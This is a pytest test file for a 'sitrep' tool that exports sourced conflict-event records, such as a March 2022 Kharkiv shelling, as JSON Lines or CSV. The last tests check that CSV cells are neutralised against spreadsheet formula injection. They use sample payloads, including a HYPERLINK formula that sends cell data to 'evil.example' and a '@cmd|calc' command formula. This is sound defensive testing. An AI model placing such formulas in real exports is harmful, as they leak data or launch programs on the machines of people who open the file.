"""`sitrep export`: every shown event with its sources, as JSON Lines or CSV."""

from __future__ import annotations

import csv
import io
import json

import pytest

from store.db import Store
from store.export import CSV_COLUMNS, EVENT_COLUMNS, export_events, neutralise
from store.extract.rules import MIN_CONFIDENCE

KHARKIV_SHELLING_SOURCES = {"002_84f9446eafe82698", "003_17c81901f7fafa9d"}


def export_jsonl(store: Store, since: str | None = None) -> tuple[int, list[dict]]:
    stream = io.StringIO()
    count = export_events(store, stream, "jsonl", since)
    return count, [json.loads(line) for line in stream.getvalue().splitlines()]


def export_csv(store: Store, since: str | None = None) -> tuple[int, csv.DictReader, list[dict]]:
    stream = io.StringIO()
    count = export_events(store, stream, "csv", since)
    reader = csv.DictReader(io.StringIO(stream.getvalue()))
    return count, reader, list(reader)


def shown_event_ids(store: Store) -> set[int]:
    rows = store.db.execute("select id from events where confidence >= ?", [MIN_CONFIDENCE])
    return {row[0] for row in rows}


def test_jsonl_has_one_parsable_line_per_event_and_returns_the_count(seeded_store: Store):
    count, events = export_jsonl(seeded_store)
    assert count == len(events) > 0
    for event in events:
        assert set(EVENT_COLUMNS) | {"sources"} == set(event)


def test_only_events_the_bot_shows_are_exported(seeded_store: Store):
    _, events = export_jsonl(seeded_store)
    total = seeded_store.db["events"].count
    assert {e["event_id"] for e in events} == shown_event_ids(seeded_store)
    assert len(events) < total  # the seeds do have hidden low-confidence events
    assert all(e["confidence"] >= MIN_CONFIDENCE for e in events)


def test_events_come_in_date_order_then_id_order(seeded_store: Store):
    _, events = export_jsonl(seeded_store)
    keys = [(e["event_date"], e["event_id"]) for e in events]
    assert keys == sorted(keys)


def test_every_event_cites_a_sentence_found_verbatim_in_its_article(seeded_store: Store):
    _, events = export_jsonl(seeded_store)
    texts = dict(seeded_store.db.execute("select id, text from articles").fetchall())
    for event in events:
        assert event["sources"], event["event_id"]
        for source in event["sources"]:
            assert source["sentence"]
            assert source["sentence"] in texts[source["article_id"]], source


def test_sources_carry_the_article_metadata(seeded_store: Store):
    _, events = export_jsonl(seeded_store)
    source = events[0]["sources"][0]
    assert set(source) == {"article_id", "title", "url", "publisher", "published", "sentence"}
    assert source["title"]
    assert source["published"].startswith("2022-03-0")


def test_the_kharkiv_shelling_of_march_2_merges_both_reports_with_a_range(seeded_store: Store):
    _, events = export_jsonl(seeded_store)
    [event] = [
        e
        for e in events
        if e["place"] == "Kharkiv" and e["event_date"] == "2022-03-02" and e["killed_low"] == 21
    ]
    assert {s["article_id"] for s in event["sources"]} >= KHARKIV_SHELLING_SOURCES
    assert (event["injured_low"], event["injured_high"]) == (100, 112)
    assert event["n_sources"] == 2
    assert event["admin1"] == "Kharkiv Oblast"
    assert event["country"] == "UA"
    assert event["latitude"] and event["longitude"]


def test_csv_parses_with_the_documented_header(seeded_store: Store):
    _, reader, _ = export_csv(seeded_store)
    assert tuple(reader.fieldnames) == CSV_COLUMNS
    for column in (
        "event_id",
        "event_date",
        "admin1",
        "killed_low",
        "injured_high",
        "source_article_id",
        "source_title",
        "source_url",
        "source_published",
        "source_sentence",
    ):
        assert column in reader.fieldnames


def test_csv_has_one_row_per_event_and_source(seeded_store: Store):
    _, events = export_jsonl(seeded_store)
    count, _, rows = export_csv(seeded_store)
    assert count == len(events)
    assert len(rows) == sum(len(e["sources"]) for e in events)
    assert {int(r["event_id"]) for r in rows} == {e["event_id"] for e in events}
    pairs = {(int(r["event_id"]), r["source_article_id"]) for r in rows}
    assert pairs == {(e["event_id"], s["article_id"]) for e in events for s in e["sources"]}


def test_csv_leaves_a_missing_figure_empty(seeded_store: Store):
    _, _, rows = export_csv(seeded_store)
    assert any(r["killed_low"] == "" for r in rows)
    assert any(r["killed_low"] == "21" for r in rows)


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_since_keeps_events_on_or_after_the_day(seeded_store: Store, fmt):
    _, everything = export_jsonl(seeded_store)
    since = "2022-03-02"
    expected = {e["event_id"] for e in everything if e["event_date"] >= since}
    if fmt == "jsonl":
        count, events = export_jsonl(seeded_store, since)
        exported = {e["event_id"] for e in events}
    else:
        count, _, rows = export_csv(seeded_store, since)
        exported = {int(r["event_id"]) for r in rows}
    assert exported == expected
    assert count == len(expected) < len(everything)


def test_since_after_every_event_exports_nothing(seeded_store: Store):
    assert export_jsonl(seeded_store, "2030-01-01") == (0, [])


@pytest.mark.parametrize("since", ["2022-3-2", "20220302", "2022-W09-3", "2022-02-30", "March 2"])
def test_since_that_is_not_a_yyyy_mm_dd_day_is_refused(seeded_store: Store, since):
    with pytest.raises(ValueError, match="--since must be YYYY-MM-DD"):
        export_events(seeded_store, io.StringIO(), "jsonl", since)


def test_an_unknown_format_is_refused(seeded_store: Store):
    with pytest.raises(ValueError, match="format must be one of jsonl, csv"):
        export_events(seeded_store, io.StringIO(), "xml")


def test_an_empty_store_exports_no_events_and_a_csv_header(store: Store):
    assert export_jsonl(store) == (0, [])
    count, reader, rows = export_csv(store)
    assert (count, rows) == (0, [])
    assert tuple(reader.fieldnames) == CSV_COLUMNS


@pytest.mark.parametrize(
    "value, cell",
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Kharkiv = 2", "Kharkiv = 2"),
        ("", ""),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(value, cell):
    assert cell == neutralise(value)


def test_a_formula_title_and_summary_reach_the_csv_neutralised(seeded_store: Store):
    seeded_store.db.execute('update articles set title = \'=HYPERLINK("http://x","y")\'')
    seeded_store.db.execute("update events set summary = '@cmd|calc'")
    out = io.StringIO()
    export_events(seeded_store, out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {'\'=HYPERLINK("http://x","y")'} == {r["source_title"] for r in rows}
    assert {"'@cmd|calc"} == {r["summary"] for r in rows}
    jsonl = io.StringIO()
    export_events(seeded_store, jsonl, "jsonl")
    assert "@cmd|calc" == json.loads(jsonl.getvalue().splitlines()[0])["summary"]
